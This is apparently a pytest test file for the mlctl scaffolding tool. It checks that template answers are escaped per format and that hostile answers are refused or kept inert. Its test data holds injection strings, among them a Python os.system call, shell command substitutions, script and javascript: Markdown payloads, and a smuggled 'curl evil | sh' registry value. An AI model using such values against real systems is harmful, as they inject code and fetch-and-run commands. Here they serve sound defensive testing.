"""Template answers are data: validated by their question's type, written through a filter for each
format, and never able to break (or run code in) the service they land in.

The filters are checked against the real parser of each format (Python's, tomllib, ruamel and
mlctl's own YAML reader, markdown-it, shlex); the whole road against every free-text question of
every template with arbitrary Unicode, through ``mlctl new`` and the files it wrote.
"""

from __future__ import annotations

import ast
import importlib.util
import json
import os
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import tomllib
from conftest import tree
from hypothesis import HealthCheck, Phase, assume, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from ruamel.yaml import YAML

from mlctl import safe_yaml
from mlctl.errors import ExitCode, InputError
from mlctl.scaffold import escape
from mlctl.scaffold.create import new_service
from mlctl.scaffold.templates import Question, find_template

TEMPLATES = ["pytorch-predict", "pytorch-generate"]
#: Every str question without a pattern or choices: free text.
FREE_TEXT = [
    (t, q.name) for t in TEMPLATES for q in find_template(t).manifest.questions if q.type == "str" and not q.pattern
]
#: What once broke a service: code run at import, syntax errors, invalid TOML, YAML and Markdown markup.
NASTY = (
    'x""" + __import__("os").system("touch PWNED") + """ C:\\Users \\N{x} 🚀 {{ name }} `*_[a](b)_*` # <b>&amp; $x$ "'
)
#: Arbitrary Unicode, lone surrogates included (a --set value from a badly encoded terminal holds them).
ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=60)

DESCRIPTION = Question(name="description", type="str", help="One line", min_length=1, max_length=200)


def answer(text: str) -> str:
    """``text`` as the description question takes it, or skip the example it refuses."""
    try:
        parsed = DESCRIPTION.parse(text)
    except ValueError:
        assume(False)
        raise
    assert isinstance(parsed, str)
    return parsed


# --- each filter, against the real parser of its format -------------------------------------------------


@given(ANY_TEXT)
def test_python_literal_reads_back_as_the_text(text: str) -> None:
    assert ast.literal_eval(escape.python_literal(text)) == text


@given(ANY_TEXT)
@example('"""')
@example('ends with a quote"')
@example("ends with a backslash\\")
def test_python_docstring_reads_back_as_the_text(text: str) -> None:
    text = answer(text)
    source = escape.python_docstring(text, width=20) + "\nx = 1\n"
    module = ast.parse(source)
    assert [type(n).__name__ for n in module.body] == ["Expr", "Assign"]  # nothing else ran
    docstring = ast.get_docstring(module, clean=False)
    assert docstring is not None
    assert docstring.replace("\n", " ") == text  # wrapped only at single spaces
    assert all(len(line) <= 20 + 6 or " " not in line for line in source.splitlines())  # with the quotes


@given(ANY_TEXT)
def test_toml_string_reads_back_as_the_text(text: str) -> None:
    text = answer(text)
    assert tomllib.loads(f"description = {escape.toml_string(text)}\n")["description"] == text


@given(ANY_TEXT)
def test_yaml_scalar_reads_back_as_the_text(text: str) -> None:
    text = answer(text)
    document = f"description: {escape.yaml_scalar(text)}\n"
    assert YAML(typ="safe", pure=True).load(document) == {"description": text}
    assert safe_yaml.load(document, "x.yaml")[0] == {"description": text}


def test_yaml_scalar_of_other_values() -> None:
    assert [escape.yaml_scalar(v) for v in (None, True, False, 16, 2.5, "cuda")] == [
        "null",
        "true",
        "false",
        "16",
        "2.5",
        '"cuda"',
    ]


MARKDOWN = MarkdownIt("commonmark").enable("table").enable("strikethrough")


def markdown_paragraph(text: str) -> tuple[list[str], str]:
    """The token types inside the paragraph that ``text`` renders as, and their text."""
    tokens = MARKDOWN.parse(f"# title\n\n{text}\n\nafter\n")
    assert [t.type for t in tokens][:4] == ["heading_open", "inline", "heading_close", "paragraph_open"]
    inline = tokens[4]
    children = inline.children or []
    return [c.type for c in children], "".join(c.content for c in children)


@given(ANY_TEXT)
@example("# heading")
@example("- item")
@example("1. item")
@example("=====")
@example("<script>alert(1)</script>")
@example("[link](javascript:alert(1))")
@example("| a | b |")
def test_markdown_text_renders_as_the_text(text: str) -> None:
    text = answer(text)
    assume(text)
    kinds, shown = markdown_paragraph(escape.markdown_text(text))
    assert set(kinds) <= {"text", "text_special"}, kinds  # no emphasis, links, HTML or code
    assert shown == text


@given(ANY_TEXT)
def test_shell_word_is_one_word(text: str) -> None:
    text = answer(text)
    assert shlex.split(escape.shell_word(text)) == [text]


def test_shell_word_in_a_real_shell() -> None:
    word = escape.shell_word(NASTY + " $(touch PWNED) `touch PWNED` ; touch PWNED")
    done = subprocess.run(["sh", "-c", f"printf %s {word}"], capture_output=True, text=True, check=True)
    assert done.stdout == NASTY + " $(touch PWNED) `touch PWNED` ; touch PWNED"
    assert not Path("PWNED").exists()


# --- a template that writes an answer raw is caught when it renders ---------------------------------------


def test_an_answer_written_without_a_filter_is_a_template_bug(cli: Any, isolated: Path, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    from test_new import broken_template

    broken_template(tmp_path / "tpl", "# {{ name }}\n\n{{ description }}\n")
    monkeypatch.setenv("MLCTL_TEMPLATE_PATH", str(tmp_path / "tpl"))
    result = cli("new", "svc", "--template", "broken")
    assert result.exit_code == ExitCode.FAILURE
    assert result.stderr.splitlines()[-1] == (
        "error: template broken failed to render zz_last.txt.j2:3: the answer 'description' is written without a "
        "filter for its format (py, py_docstring, toml, yaml, md, sh; see mlctl.scaffold.escape)"
    )
    assert list(isolated.iterdir()) == []


def test_a_file_that_does_not_parse_is_never_written(cli: Any, isolated: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    from test_new import broken_template

    # The wrong filter for the format: Markdown in Python code.
    broken_template(tmp_path / "tpl", "")
    target = tmp_path / "tpl" / "broken" / "files"
    (target / "zz_last.txt.j2").unlink()
    (target / "zz_settings.py.j2").write_text('DESCRIPTION = "{{ description | md }}"\n')
    monkeypatch.setenv("MLCTL_TEMPLATE_PATH", str(tmp_path / "tpl"))
    assert cli("new", "svc", "--template", "broken", "--no-git").exit_code == 0  # harmless text: fine
    result = cli("new", "svc2", "--template", "broken", "--set", 'description=say "hi"')
    assert result.exit_code == ExitCode.FAILURE
    assert result.stderr.splitlines()[-2:] == [
        "error: template broken 1.4.0 rendered an invalid zz_settings.py:1: invalid syntax; nothing was written",
        "hint: a bug in the template: an answer reached the file without its escaping filter",
    ]
    assert not (isolated / "svc2").exists()


# --- the hostile corpus, through the command line ----------------------------------------------------------


@pytest.mark.parametrize(
    ("option", "message"),
    [
        ("description=one\ntwo", "error: --set description='one\\ntwo': description must be one line"),
        ("description=a\u2028b", "error: --set description='a\\u2028b': description must be one line"),
        ("description=nul\x00byte", "error: --set description='nul\\x00byte': description must not contain the "
         "control character U+0000"),
        ("description=tab\there", "error: --set description='tab\\there': description must not contain the "
         "control character U+0009"),
        ("description=bad \udcff byte", "error: --set description='bad \\udcff byte': description must be text, "
         "not the lone surrogate U+DCFF"),
        ("description=safe\u202e)(exe.txt", "error: --set description='safe\\u202e)(exe.txt': description must not "
         "contain the bidirectional control U+202E (it makes text read out of order)"),
        ("description=" + "x" * 201, "error: --set description='" + "x" * 55 + "...': description must be at most "
         "200 characters, got 201"),
        ("torch_version=\u0662.\u0661\u0663", "error: --set torch_version=\u0662.\u0661\u0663: torch_version must "
         "be a version like 2.13.0, got '\u0662.\u0661\u0663'"),
        ("description=   ", "error: --set description=   : description must not be empty"),
        ("port=8_080", "error: --set port=8_080: port must be an integer, got '8_080'"),
        ("port=\u0668\u0660\u0668\u0660", "error: --set port=\u0668\u0660\u0668\u0660: port must be an integer, "
         "got '\u0668\u0660\u0668\u0660'"),
        ("namespace=default", "error: --set namespace=default: namespace must be a Kubernetes namespace prefix "
         "(lowercase letters, digits and '-'; not default or kube-*), got 'default'"),
        ("namespace=kube-system", "error: --set namespace=kube-system: namespace must be a Kubernetes namespace "
         "prefix (lowercase letters, digits and '-'; not default or kube-*), got 'kube-system'"),
        ("namespace=" + "n" * 56, "error: --set namespace=" + "n" * 56 + ": namespace must be at most 55 characters, "
         "got 56"),
        ("registry=ghcr.io/acme\"; curl evil | sh; \"", "error: --set registry=ghcr.io/acme\"; curl evil | sh; \": "
         "registry must be a registry such as ghcr.io/acme or 127.0.0.1:5000/ml (or empty for local images), got "
         "'ghcr.io/acme\"; curl evil | sh; \"'"),
        ("descr\nption=x", "error: --set 'descr\\nption'=x: template 'pytorch-predict' has no question "
         "'descr\\nption'"),
    ],
)  # fmt: skip
def test_hostile_answers_are_refused_in_one_line(cli: Any, isolated: Path, option: str, message: str) -> None:
    result = cli("new", "svc", "--set", option)
    assert result.exit_code == ExitCode.INPUT
    assert result.stderr.splitlines()[0] == message
    assert list(isolated.iterdir()) == []


@pytest.mark.parametrize(
    "text", [NASTY, '"""', "C:\\Users\\N", 'trailing quote"', "🚀 emoji", "`code` *bold* [link](x)", "٢٠٢٦"]
)
def test_hostile_descriptions_are_kept_as_written(cli: Any, isolated: Path, text: str) -> None:
    result = cli("new", "svc", "--set", f"description={text}", "--no-git")
    assert result.exit_code == 0, result.stderr
    check_service(isolated / "svc", "pytorch-predict", "description", text)


# --- the property: any answer either is refused cleanly or gives a service that parses and imports ---------


def check_service(root: Path, template: str, question: str, text: str) -> None:
    """Every file of the service parses, and the answer reads back as itself wherever it landed."""
    from mlctl.config import load_service_config

    package = root.name.replace("-", "_")
    for path in tree(root):
        content = (root / path).read_text(encoding="utf-8")
        if path.endswith(".py"):
            ast.parse(content, path)
        elif path.endswith((".yaml", ".yml")):
            YAML(typ="safe", pure=True).load(content)
        elif path.endswith(".json"):
            json.loads(content)
    pyproject = tomllib.loads((root / "pyproject.toml").read_text())
    config = load_service_config(root).config
    assert config.template is not None
    assert config.template.answers[question] == text
    if question == "description":
        assert pyproject["project"]["description"] == text
        assert markdown_paragraph(_readme_paragraph(root))[1] == text
        spec = importlib.util.spec_from_file_location(
            f"scaffolded_{os.getpid()}_{abs(hash(text))}", root / package / "__init__.py"
        )
        assert spec is not None
        assert spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)  # the generated package imports
        assert (module.__doc__ or "").replace("\n", " ") == text
    assert not Path("PWNED").exists()
    assert not (root / "PWNED").exists()


def _readme_paragraph(root: Path) -> str:
    """The README's line after its title: the description, as written."""
    lines = (root / "README.md").read_text().splitlines()
    assert lines[1] == ""
    return lines[2]


@pytest.mark.parametrize(("template", "question"), FREE_TEXT)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=ANY_TEXT)
@example(text=NASTY)
def test_any_free_text_answer_gives_a_service_that_parses_and_imports(
    tmp_path_factory: pytest.TempPathFactory, template: str, question: str, text: str
) -> None:
    work = tmp_path_factory.mktemp("svc")
    target = work / "svc"
    try:
        result = new_service("svc", template=template, directory=target, answers={question: text}, git=False)
    except InputError as exc:
        refused: InputError | None = exc
    else:
        refused = None
    if refused is not None:
        assert refused.message.splitlines() == [refused.message]  # one line
        assert list(work.iterdir()) == []  # refused: nothing written
        return
    assert result.answers[question] == text.strip()
    check_service(target, template, question, text.strip())


# --- the costly part, a few times: the service's own tests pass with a hostile answer ---------------------


@pytest.mark.slow
@pytest.mark.parametrize(("template", "question"), FREE_TEXT)
@settings(max_examples=1, deadline=None, database=None, phases=[Phase.explicit, Phase.generate],
          suppress_health_check=[HealthCheck.function_scoped_fixture])  # fmt: skip
@given(text=ANY_TEXT)
@example(text=NASTY)
def test_a_hostile_answer_gives_a_service_whose_tests_pass(
    tmp_path_factory: pytest.TempPathFactory, template: str, question: str, text: str
) -> None:
    try:
        find_template(template).question(question).parse(text)  # type: ignore[union-attr]
    except ValueError:
        assume(False)
    target = tmp_path_factory.mktemp("svc") / "svc"
    new_service("svc", template=template, directory=target, answers={question: text})
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST")}
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"],
        cwd=target,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert " passed" in done.stdout.strip().splitlines()[-1]
    assert not (target / "PWNED").exists()
